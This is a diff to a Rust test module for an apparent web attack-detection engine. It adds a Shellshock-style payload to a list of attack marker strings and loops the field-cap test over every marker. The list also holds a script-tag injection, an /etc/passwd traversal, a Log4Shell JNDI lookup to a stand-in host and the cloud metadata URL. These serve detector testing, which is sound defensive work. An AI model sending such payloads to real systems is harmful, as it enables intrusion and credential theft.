@@ -8,9 +8,16 @@ use std::sync::OnceLock;
 
 use crate::{Engine, EngineConfig, ScoreInput};
 
-/// Attack texts the pattern stage catches on their own (no model needed).
-pub const MARKERS: [&str; 4] =
-    ["<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "http://169.254.169.254/latest/meta-data/"];
+/// Attack texts the pattern stage catches on their own (no model needed). The last is caught
+/// only by a rule anchored at the value's start, which padding past the field cap must not
+/// move away from it.
+pub const MARKERS: [&str; 5] = [
+    "<script>alert(1)</script>",
+    "../../../../etc/passwd",
+    "${jndi:ldap://evil.example/a}",
+    "http://169.254.169.254/latest/meta-data/",
+    "() { _; } >_[$($())] { id; }",
+];
 
 /// Where the marker goes.
 pub const SPOTS: [&str; 8] = ["query", "path", "form", "json", "multipart", "xml", "header", "cookie"];
@@ -159,14 +166,16 @@ mod tests {
     #[test]
     fn the_marker_is_scored_or_marked_partial_past_the_field_cap() {
         for spot in 0..SPOTS.len() {
-            check(engine(), &case(spot, 0, 0, 1_100, 0)).unwrap();
+            for marker in 0..MARKERS.len() {
+                check(engine(), &case(spot, 0, marker, 1_100, 0)).unwrap();
+            }
         }
     }
 
     #[test]
     fn bytes_map_onto_every_dimension() {
         let c = PlacementCase::from_bytes(&[9, 3, 6, 0x10, 0x01, 0xff, 0xff, 0xff, 30]);
-        assert_eq!((c.spot, c.wrap, c.marker), (1, 1, 2));
+        assert_eq!((c.spot, c.wrap, c.marker), (1, 1, 6 % MARKERS.len()));
         assert_eq!(c.padding_fields, 0x1001 % (MAX_PADDING_FIELDS + 1));
         assert_eq!(c.padding_bytes, 0xffffff % (MAX_PADDING_BYTES + 1));
         assert_eq!(c.filler, b'e');
